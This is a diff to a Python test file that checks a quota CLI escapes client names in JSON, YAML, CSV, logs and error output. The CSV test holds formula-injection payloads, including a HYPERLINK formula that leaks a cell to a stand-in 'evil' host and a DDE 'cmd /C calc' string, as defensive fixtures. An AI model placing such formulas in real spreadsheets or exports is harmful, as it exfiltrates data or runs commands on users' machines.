@@ -1,15 +1,20 @@
-"""Names come from clients. What people read shows their control characters escaped; JSON has the names as they are."""
+"""Names come from clients. Every output escapes their control characters; JSON and YAML are read back as they were."""
 
 import csv
 import io
 import json
 import logging
 import sys
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
 from pathlib import Path
+from typing import Any
 from unittest.mock import patch
 
 import pytest
+import yaml
 
+from pipeline.cli.main import exit_code
 from pipeline.cli.output import print_rows
 from pipeline.errors import PipelineError, first_line, printable
 from pipeline.log import set_up_logging
@@ -86,16 +91,48 @@ def test_an_edit_answers_with_the_name_escaped(tmp_path: Path) -> None:
     assert answer.stdout == f"Completed updating config for client {SHOWN}.\n"
 
 
-def test_json_has_the_name_as_it_is(job: KeptJob) -> None:
-    (row,) = json.loads(kquota("quotas", "describe", "-o", "json", "--tables", job.root).stdout)
-    assert row["client_id"] == EVIL
-    (quota,) = json.loads(kquota("quotas", "export", "-o", "json", "--tables", job.root).stdout)["quotas"]
-    assert EVIL in {part["name"] for part in quota["entity"]}
+@pytest.mark.parametrize(
+    ("output", "read", "name"),
+    [
+        ("json", json.loads, EVIL),
+        ("yaml", yaml.safe_load, EVIL),
+        ("csv", lambda text: list(csv.DictReader(io.StringIO(text))), SHOWN),
+    ],
+)
+def test_a_document_is_printable_and_read_back(
+    output: str, read: Callable[[str], Any], name: str, job: KeptJob
+) -> None:
+    text = kquota("quotas", "describe", "-o", output, "--tables", job.root).stdout
+    assert is_safe(text), text
+    (row,) = read(text)
+    assert row["client_id"] == name
+    if output == "csv":
+        return
+    exported = kquota("quotas", "export", "-o", output, "--tables", job.root).stdout
+    assert is_safe(exported), exported
+    (quota,) = read(exported)["quotas"]
+    assert name in {part["name"] for part in quota["entity"]}
 
 
-def test_csv_has_the_name_as_it_is(job: KeptJob) -> None:
-    (row,) = csv.DictReader(io.StringIO(kquota("quotas", "describe", "-o", "csv", "--tables", job.root).stdout))
-    assert row["client_id"] == EVIL
+@pytest.mark.parametrize(
+    ("name", "cell"),
+    [
+        ('=HYPERLINK("http://evil/?"&A1,"open")', '\'=HYPERLINK("http://evil/?"&A1,"open")'),
+        ("+1", "'+1"),
+        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
+        ("@SUM(1)", "'@SUM(1)"),
+        ("\uff1d1+1", "'\uff1d1+1"),
+        ("\t=1+1", r"\t=1+1"),
+        ("a;=1+1;-2", "a;'=1+1;'-2"),
+        ("etl-1=a+b@c", "etl-1=a+b@c"),
+        (-1.5, "-1.5"),
+        (["=1"], '["=1"]'),
+    ],
+)
+def test_csv_has_no_cell_that_a_spreadsheet_runs(name: object, cell: str, capsys: pytest.CaptureFixture[str]) -> None:
+    print_rows([{"client_id": name}], "csv")
+    (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
+    assert row["client_id"] == cell
 
 
 @pytest.mark.parametrize("stdout", [io.StringIO(), Terminal()], ids=["pipe", "terminal"])
@@ -107,18 +144,41 @@ def test_a_table_shows_a_name_escaped_and_no_markup_of_it(stdout: io.StringIO, m
     assert SHOWN in stdout.getvalue()
 
 
-def test_a_log_line_is_one_line_whatever_it_names(capsys: pytest.CaptureFixture[str]) -> None:
+@contextmanager
+def log() -> Iterator[logging.Logger]:
+    """A logger at DEBUG, with lines as a job writes them to stderr."""
     root = logging.getLogger()
     before, level = root.handlers[:], root.level
-    try:
-        set_up_logging("INFO")
-        logging.getLogger("pipeline.test").info("throttle %s", EVIL)
-    finally:
-        root.handlers[:] = before
-        root.setLevel(level)
+    set_up_logging("DEBUG")
+    yield logging.getLogger("pipeline.test")
+    root.handlers[:] = before
+    root.setLevel(level)
+
+
+def test_a_log_line_is_one_line_whatever_it_names(capsys: pytest.CaptureFixture[str]) -> None:
+    with log() as logger:
+        logger.info("throttle %s", EVIL)
     line = capsys.readouterr().err
     assert line.endswith(f"throttle {SHOWN}\n")
     assert line.count("\n") == 1
+
+
+def test_no_line_of_a_stack_trace_looks_like_a_line_of_the_log(capsys: pytest.CaptureFixture[str]) -> None:
+    with log() as logger:
+        logger.info("failed", exc_info=ValueError(EVIL))
+    _, *trace = capsys.readouterr().err.splitlines()
+    assert trace == ["  ValueError: x", "  " + SHOWN.removeprefix(r"x\n")]
+
+
+def test_an_unexpected_failure_is_printable_whatever_it_names(
+    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.setenv("KQUOTA_LOG_LEVEL", "DEBUG")
+    with patch("pipeline.cli.main.app", side_effect=ValueError(EVIL)):
+        assert exit_code() == 1
+    text = capsys.readouterr().err
+    assert is_safe(text), text
+    assert text.count(r"alice/etl \x1b[2J") == 1
 
 
 def test_an_error_is_one_line_without_control_characters() -> None:
